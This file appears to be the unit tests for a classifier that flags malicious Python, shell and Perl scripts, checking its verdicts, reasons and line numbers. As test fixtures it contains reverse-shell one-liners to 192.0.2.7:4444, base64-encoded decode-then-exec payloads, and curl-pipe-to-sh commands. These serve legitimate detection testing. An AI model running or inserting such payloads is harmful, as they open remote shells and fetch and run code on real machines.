/*
 * The judge with the model of the source tree: how it explains what it finds, and its bounds. What
 * it finds is in tests/unit/ctl/test_classify.c.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

#include "base/text.h"
#include "judge_model.h"

struct fixture {
	struct lw_judge *judge;
	struct lw_model *model;
};

static int
begin_test(void **state)
{
	struct fixture *f = calloc(1, sizeof(*f));

	f->model = judge_model_open();
	*state = f;
	return lw_judge_new(&f->judge);
}

static int
end_test(void **state)
{
	struct fixture *f = *state;

	lw_judge_free(f->judge);
	lw_model_free(f->model);
	free(f);
	return 0;
}

static struct lw_judgement
judged(const struct fixture *f, enum lw_language language, const char *text)
{
	const struct lw_judge_by by = {.model = f->model};
	struct lw_judgement r;

	lw_judge_script(f->judge, &by, language, (const uint8_t *)text, strlen(text), &r);
	return r;
}

static void
reasons_name_behaviour_and_line(void **state)
{
	struct lw_judgement r = judged(*state, LW_LANGUAGE_PYTHON,
		"import base64\n"
		"import socket\n"
		"exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))\n");

	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
	assert_true(r.reason_count >= 1);
	assert_non_null(strstr(r.reasons[0], "decode-then-exec"));
	assert_non_null(strstr(r.reasons[0], "(line 3)"));
}

static void
an_ordinary_script_has_no_reasons(void **state)
{
	struct lw_judgement r = judged(*state, LW_LANGUAGE_PYTHON,
		"import json\n\n\ndef load(path):\n    with open(path) as f:\n"
		"        return json.load(f)\n");

	assert_int_equal(r.verdict, LW_VERDICT_UNKNOWN);
	assert_int_equal(r.reason_count, 0);
	assert_true(r.score < 0.05);
}

/* Its own text is harmless to look at. */
static void
a_layer_that_was_decoded_is_judged_and_named(void **state)
{
	struct lw_judgement r = judged(*state, LW_LANGUAGE_SHELL,
		"X=Y3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3ggfCBzaCAmJiBiYXNoIC1pID4mIC9kZXYvdGNwLzE5"
		"Mi4wLjIuNy80NDQ0IDA+JjE=\necho $X | openssl enc -d -a | sh\n");

	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
	assert_non_null(strstr(r.reasons[r.reason_count - 1], "decoded base64 (line 1)"));
	assert_int_equal(r.decoded.line, 1);
	assert_string_equal(r.decoded.encodings, "base64");
	assert_int_equal(r.decoded.length, r.decoded.size);
	assert_true(r.decoded.length > 0);
}

/* The bug: a layer with a higher score and a lower verdict took the place of the text's own. */
static void
no_layer_makes_a_text_look_better(void **state)
{
	const struct lw_judgement odd = {
		.verdict = LW_VERDICT_SUSPICIOUS, .score = 0.5, .reason_count = 1};
	struct lw_judgement worst = {.verdict = LW_VERDICT_MALICIOUS, .score = 0.3};

	lw_judgement_add(&worst, &odd);
	assert_int_equal(worst.verdict, LW_VERDICT_MALICIOUS);
	assert_int_equal(worst.reason_count, 0);
	assert_true(worst.score == 0.5);
	worst = (struct lw_judgement){.verdict = LW_VERDICT_UNKNOWN, .score = 0.6};
	lw_judgement_add(&worst, &odd);
	assert_int_equal(worst.verdict, LW_VERDICT_SUSPICIOUS);
	assert_int_equal(worst.reason_count, 1);
	assert_true(worst.score == 0.6);
}

static void
empty_and_tiny_texts_are_unknown(void **state)
{
	static const char *const texts[] = {"", "\n", "x", ":", "#"};

	for (size_t i = 0; i < LW_ARRAY_SIZE(texts); i++) {
		for (int language = 0; language < LW_LANGUAGE_COUNT; language++)
			assert_int_equal(
				judged(*state, language, texts[i]).verdict, LW_VERDICT_UNKNOWN);
	}
}

static void
without_a_model_reverse_shells_are_found_by_behaviour(void **state)
{
	static const char text[] = "import socket,os,pty\ns=socket.socket()\n"
				   "s.connect(('192.0.2.7',4444))\npty.spawn('/bin/sh')\n";
	const struct lw_judge_by nothing = {0};
	struct fixture *f = *state;
	struct lw_judgement r;

	lw_judge_script(f->judge, &nothing, LW_LANGUAGE_PYTHON, (const uint8_t *)text,
		sizeof(text) - 1, &r);
	assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
	assert_non_null(strstr(r.reasons[0], "shell"));
}

/* Libraries for networks and system calls have all of these words, somewhere and near. */
static void
long_texts_without_a_model_are_suspicious_at_most(void **state)
{
	static const char shell[] = "use Socket; socket(S, PF_INET, SOCK_STREAM, 6); "
				    "connect(S, sockaddr_in(4444, inet_aton('192.0.2.7'))); "
				    "open(STDIN, '>&S'); exec('/bin/sh -i');\n";
	struct lw_text text;

	assert_int_equal(judged(*state, LW_LANGUAGE_PERL, shell).verdict, LW_VERDICT_MALICIOUS);
	lw_text_init(&text, 16 * 1024);
	lw_text_adds(&text, shell);
	while (text.length < 4096)
		lw_text_adds(&text, "# and much more that has nothing to do with it\n");
	assert_int_equal(
		judged(*state, LW_LANGUAGE_PERL, text.data).verdict, LW_VERDICT_SUSPICIOUS);
	lw_text_done(&text);
}

static void
without_a_language_nothing_is_said(void **state)
{
	assert_int_equal(
		judged(*state, LW_LANGUAGE_NONE, "bash -i >& /dev/tcp/192.0.2.7/1 0>&1\n").verdict,
		LW_VERDICT_UNKNOWN);
}

/* A text of ordinary lines with one line of another kind in it. */
static char *
with_line(size_t lines, size_t at, const char *line)
{
	struct lw_text text;

	lw_text_init(&text, 16 * 1024 * 1024);
	for (size_t i = 0; i < lines; i++) {
		if (i == at)
			lw_text_adds(&text, line);
		lw_text_addf(
			&text, "def area_%zu(width, height):\n    return width * height\n\n\n", i);
	}
	assert_false(text.failed);
	return text.data;
}

static void
one_injected_line_is_found_wherever_it_is(void **state)
{
	static const char line[] = "exec(__import__('base64').b64decode("
				   "'aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAxOTIuMC4yLjd8c2gnKQ=='))\n";

	for (size_t at = 0; at < 2000; at += 400) {
		_cleanup_free_ char *text = with_line(2000, at, line);
		struct lw_judgement r = judged(*state, LW_LANGUAGE_PYTHON, text);

		if (r.verdict != LW_VERDICT_MALICIOUS)
			print_message("line %zu: %.4f\n", at, r.score);
		assert_int_equal(r.verdict, LW_VERDICT_MALICIOUS);
	}
}

static void
expect_line(struct lw_judgement r, unsigned line)
{
	char wanted[32];
	bool named = false;

	snprintf(wanted, sizeof(wanted), "line %u", line);
	for (uint32_t i = 0; i < r.reason_count; i++)
		named |= strstr(r.reasons[i], wanted) != NULL;
	assert_true(r.verdict >= LW_VERDICT_SUSPICIOUS);
	assert_true(named);
}

/* Longer than what is looked at: the end and the longest lines still are. */
static void
the_end_and_the_longest_lines_of_a_huge_text_count(void **state)
{
	static const char plain[] =
		"exec(__import__('base64').b64decode("
		"'aW1wb3J0IG9zO29zLnN5c3RlbSgnY3VybCAxOTIuMC4yLjd8c2gnKQ=='))\n";
	_cleanup_free_ char *payload = malloc(9000), *end = NULL, *middle = NULL, *between = NULL;

	memset(payload, ' ', 9000);
	strcpy(&payload[7000],
		";import os,socket,subprocess as p;s=socket.socket();s.connect(('192.0.2.7',4444));"
		"os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);p.call(['/bin/sh','-i'])\n");
	payload[0] = 'x';
	end = with_line(20000, 19999, &payload[7001]);
	middle = with_line(20000, 12000, payload);
	assert_true(strlen(middle) > 2 * LW_FEATURE_TEXT_MAX);
	expect_line(judged(*state, LW_LANGUAGE_PYTHON, end), 4 * 19999 + 1);
	expect_line(judged(*state, LW_LANGUAGE_PYTHON, middle), 4 * 12000 + 1);
	between = with_line(20000, 9000, plain);
	expect_line(judged(*state, LW_LANGUAGE_PYTHON, between), 4 * 9000 + 1);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(reasons_name_behaviour_and_line),
		cmocka_unit_test(an_ordinary_script_has_no_reasons),
		cmocka_unit_test(a_layer_that_was_decoded_is_judged_and_named),
		cmocka_unit_test(no_layer_makes_a_text_look_better),
		cmocka_unit_test(empty_and_tiny_texts_are_unknown),
		cmocka_unit_test(without_a_model_reverse_shells_are_found_by_behaviour),
		cmocka_unit_test(long_texts_without_a_model_are_suspicious_at_most),
		cmocka_unit_test(without_a_language_nothing_is_said),
		cmocka_unit_test(one_injected_line_is_found_wherever_it_is),
		cmocka_unit_test(the_end_and_the_longest_lines_of_a_huge_text_count),
	};

	return cmocka_run_group_tests_name("judge", tests, begin_test, end_test);
}
